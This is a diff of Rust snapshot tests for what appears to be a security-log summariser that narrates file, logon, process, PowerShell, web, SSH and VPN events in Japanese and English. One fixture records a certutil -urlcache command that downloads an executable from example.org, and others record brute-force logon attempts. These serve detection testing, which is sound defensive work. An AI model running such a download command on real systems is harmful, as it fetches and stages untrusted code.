@@ -45,7 +45,11 @@ fn a_save_with_its_temporary_files_is_one_act() {
     assert_eq!((observed.acts.len(), observed.passed.len()), (1, 0), "{observed:#?}");
     assert_eq!(observed.acts[0].event_ids.len(), lines.len());
     assert_eq!(observed.acts[0].id(), "file:test/1/0");
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    田中 が FS01 の D:\経理\給与.docx を書き換えた（読み取り 1 回、書き込み 1 回、一時ファイルへの書き込み 2 回、WINWORD.EXE、5 秒間、成功）
+    田中 wrote D:\経理\給与.docx on FS01 (reads: 1, writes: 1, writes to temporary files: 2, with WINWORD.EXE, over 5 s, success)
+    single: 0
+    ");
 }
 
 #[test]
@@ -60,7 +64,19 @@ fn reads_deletions_renames_and_refusals_are_told_apart() {
     let mut denied = object.to_vec();
     denied.extend([("AccessMask", "0x2"), ("EventType", "AUDIT_FAILURE")]);
     lines.push(file(4656, "01:40:00", &denied));
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    田中 が FS01 の D:\a\read.txt を読んだ（読み取り 1 回、WINWORD.EXE、成功）
+    田中 read D:\a\read.txt on FS01 (reads: 1, with WINWORD.EXE, success)
+    田中 が FS01 の D:\a\gone.txt を削除した（WINWORD.EXE、成功）
+    田中 deleted D:\a\gone.txt on FS01 (with WINWORD.EXE, success)
+    田中 が FS01 の D:\a\old-name.txt の名前を変えたか移動した（WINWORD.EXE、成功）
+    田中 renamed or moved D:\a\old-name.txt on FS01 (with WINWORD.EXE, success)
+    田中 が FS01 の D:\a\secret.txt のアクセス権を変えた（WINWORD.EXE、成功）
+    田中 changed the permissions of D:\a\secret.txt on FS01 (with WINWORD.EXE, success)
+    田中 が FS01 の D:\a\secret.txt を開こうとして拒否された（求めた操作：書き込み、1 回、失敗）
+    田中 was denied D:\a\secret.txt on FS01 (asked to write, denials: 1, failure)
+    single: 0
+    ");
 }
 
 #[test]
@@ -79,7 +95,11 @@ fn a_file_over_a_share_and_on_the_server_is_one_act() {
             .collect();
         lines.push(security(4663, &format!("01:00:{second}"), &data));
     }
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    田中 が 192.0.2.30 から FS01 の \\FS01\経理\給与.xlsx を書き換えた（読み取り 2 回、書き込み 3 回、59 秒間、成功）
+    田中 wrote \\FS01\経理\給与.xlsx on FS01 from 192.0.2.30 (reads: 2, writes: 3, over 59 s, success)
+    single: 0
+    ");
 }
 
 #[test]
@@ -107,7 +127,13 @@ fn a_logon_session_from_logon_to_logoff() {
     let observed = observed(&lines);
     let states: Vec<_> = observed.acts.iter().map(|act| act.state).collect();
     assert_eq!(states, [ActState::Complete, ActState::Open]);
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    tanaka が 192.0.2.30 から FS01 にリモートデスクトップログオンし、ログオフした（特権あり、別の資格情報 tanaka、切断 1 回、1 時間 5 分間、成功）
+    tanaka logged on to FS01 over Remote Desktop from 192.0.2.30 and logged off (privileged, other credentials: tanaka, disconnections: 1, over 1 h 5 min, success)
+    sato が FS01 に対話ログオンした（継続中、ログオフの記録なし、成功）
+    sato logged on to FS01 at the console (going on, no logoff recorded, success)
+    single: 1
+    ");
 }
 
 #[test]
@@ -122,7 +148,11 @@ fn failed_logons_of_one_source_are_one_act() {
         ));
     }
     lines.push(security(4625, "02:00:00", &[("TargetUserName", "tanaka"), from]));
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    203.0.113.9 が FS01 にログオンを試みた（Windows、3 回、3 個の名前：admin, sato, tanaka、パスワード誤り、8 分間、すべて失敗）
+    203.0.113.9 tried to log on to FS01 (Windows, attempts: 3, 3 accounts: admin, sato, tanaka, wrong password, over 8 min, all failed)
+    single: 1
+    ");
 }
 
 #[test]
@@ -163,7 +193,13 @@ fn both_logs_about_one_process_and_what_it_touched_are_one_act() {
         // The number is used again by another process.
         security(4688, "01:02:00", &[("NewProcessId", "0x1570"), ("NewProcessName", r"C:\b.exe")]),
     ];
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    tanaka が FS01 で certutil.exe を実行し、終了した：certutil -urlcache -f http://example.org/a a.exe（ライブラリー 1 個、レジストリー 1 回、通信 1 回、名前解決 1 回、宛先 203.0.113.5, example.org、1 分間、成功）
+    tanaka ran certutil.exe on FS01: certutil -urlcache -f http://example.org/a a.exe (libraries: 1, registry: 1, connections: 1, lookups: 1, destinations: 203.0.113.5, example.org, over 1 min, it ended)
+    名前のない利用者が FS01 で b.exe を実行した（継続中、終了の記録なし）
+    An unnamed user started b.exe on FS01 (going on, no end recorded)
+    single: 1
+    ");
 }
 
 #[test]
@@ -189,7 +225,11 @@ fn one_powershell_is_one_act() {
             r"Pipeline execution details\r\n\tUserId=HOSPITAL\\tanaka\r\n\tRunspaceId=9f92\r\nDetails: \r\nCommandInvocation(Out-Null): x",
         ),
     ];
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    tanaka が FS01 で PowerShell を使った：Get-Process, Out-Null（コマンド 2 回、スクリプト 1 個、2 秒間、成功）
+    tanaka used PowerShell on FS01: Get-Process, Out-Null (commands: 2, script blocks: 1, over 2 s, success)
+    single: 0
+    ");
 }
 
 #[test]
@@ -207,7 +247,15 @@ fn a_web_visit_has_pages_and_errors() {
         request("02:00:00", "GET /login", 200, "Mozilla/5.0"),
         request("01:00:02", "GET /login", 200, "curl/8"),
     ];
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    198.51.100.4 がウェブサイトを訪れた：/login から /login まで（ページ 1 件、要求 1 件、512 バイト、成功）
+    198.51.100.4 visited the web site: /login to /login (pages: 1, requests: 1, 512 bytes, success)
+    198.51.100.4 がウェブサイトを訪れた：/login から /secret まで（ページ 1 件、送信 1 件、要求 4 件、エラー 1 件、2048 バイト、29 分間、成功）
+    198.51.100.4 visited the web site: /login to /secret (pages: 1, uploads: 1, requests: 4, errors: 1, 2048 bytes, over 29 min, success)
+    198.51.100.4 がウェブサイトを訪れた：/login から /login まで（ページ 1 件、要求 1 件、512 バイト、成功）
+    198.51.100.4 visited the web site: /login to /login (pages: 1, requests: 1, 512 bytes, success)
+    single: 0
+    ");
 }
 
 #[test]
@@ -260,7 +308,19 @@ fn ssh_sudo_su_and_cron() {
         line("06:00:02", "sshd[91]: Failed password for root from 203.0.113.9 port 4002 ssh2"),
         line("06:00:03", "sshd[91]: Connection closed by 203.0.113.9 port 4002 [preauth]"),
     ];
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    tanaka が 192.0.2.30 から web01 に SSH でログオンし、切断した（ログオン前の失敗 1 回、sudo 1 回、最初のコマンド /usr/bin/apt update、9 分間、成功）
+    tanaka logged on to web01 over SSH from 192.0.2.30 and disconnected (failures before: 1, sudo commands: 1, first: /usr/bin/apt update, over 9 min, success)
+    sato が web01 で root としてコマンドを実行した：/usr/bin/id（コマンド 1 回、成功）
+    sato ran commands as root on web01: /usr/bin/id (commands: 1, success)
+    web01 の CRON が root として /usr/local/bin/backup を実行した（8 秒間、成功）
+    CRON on web01 ran /usr/local/bin/backup as root (over 8 s, success)
+    web01 で su が news のセッションを開いた（3 秒間、成功）
+    su on web01 opened a session for news (over 3 s, success)
+    203.0.113.9 が web01 にログオンを試みた（SSH、2 回、2 個の名前：admin, root、3 秒間、すべて失敗）
+    203.0.113.9 tried to log on to web01 (SSH, attempts: 2, 2 accounts: admin, root, over 3 s, all failed)
+    single: 0
+    ");
 }
 
 #[test]
@@ -295,5 +355,9 @@ fn a_vpn_session_ends_where_it_is_cut() {
             r#"logid="0101039948" action="tunnel-down" user="tanaka" remip=198.51.100.4 tunnelip=10.9.0.2"#,
         ),
     ];
-    assert_snapshot!(said(&lines), @"");
+    assert_snapshot!(said(&lines), @r"
+    tanaka が 198.51.100.4 から gw01 に VPN で接続し、切断した（割り当て 10.9.0.2、1 時間 30 分間、成功）
+    tanaka connected to the VPN at gw01 from 198.51.100.4 and disconnected (given 10.9.0.2, over 1 h 30 min, success)
+    single: 0
+    ");
 }
